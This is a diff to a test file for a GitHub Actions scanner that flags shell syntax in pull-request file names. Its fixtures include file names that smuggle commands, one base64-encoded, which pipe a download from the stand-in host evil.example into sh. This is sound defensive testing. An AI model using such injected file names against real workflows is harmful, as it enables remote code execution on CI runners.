@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { prMetadataFindings, shellPayloadIn, shellPayloadOf } from '../../../src/ecosystems/github-actions/pr-metadata.js';
-import { makeSnapshot } from '../../support/snapshot-factory.js';
+import { makeFile, makeSnapshot } from '../../support/snapshot-factory.js';
 
 const FORMAT = `name: format
 on: pull_request_target
@@ -53,5 +53,18 @@ describe('pr-metadata-shell-payload', () => {
 
   it('does not report metadata without shell syntax, even when base workflows expand it', () => {
     expect(prMetadataFindings(makeSnapshot({ headBranch: 'feat/x', title: 'feat: x', body: 'adds x', baseFiles: [{ path: '.github/workflows/format.yml', content: FORMAT }] }))).toEqual([]);
+  });
+});
+
+describe('pr-metadata-shell-payload: changed file names (hackerbot-claw, February 2026)', () => {
+  it('reports a changed file whose name (or former name) carries shell syntax, high, at that file', () => {
+    const named = makeSnapshot({ files: [makeFile('docs/$(echo${IFS}Y3VybCBldmlsLmV4YW1wbGV8c2g|base64${IFS}-d|bash).md', { patch: '@@ -0,0 +1 @@\n+x' })] });
+    expect(prMetadataFindings(named).map((f) => [f.severity, f.path, f.title])).toEqual([['high', 'docs/$(echo${IFS}Y3VybCBldmlsLmV4YW1wbGV8c2g|base64${IFS}-d|bash).md', "A changed file's name carries shell syntax"]]);
+    const renamed = makeSnapshot({ files: [makeFile('docs/a.md', { previousPath: 'docs/x;curl evil.example|sh.md', status: 'renamed' })] });
+    expect(prMetadataFindings(renamed).map((f) => f.severity)).toEqual(['high']);
+  });
+  it('is quiet on the file names projects have: route parameters, groups, ampersands, spaces', () => {
+    const files = ['app/routes/$userId.tsx', 'app/(marketing)/[...slug]/page.tsx', 'docs/Q&A.md', 'src/routes/posts.$postId_.edit.tsx', 'assets/icons/a b (1).svg', 'src/$lib/utils.ts'].map((p) => makeFile(p, { patch: '@@ -0,0 +1 @@\n+x' }));
+    expect(prMetadataFindings(makeSnapshot({ files }))).toEqual([]);
   });
 });
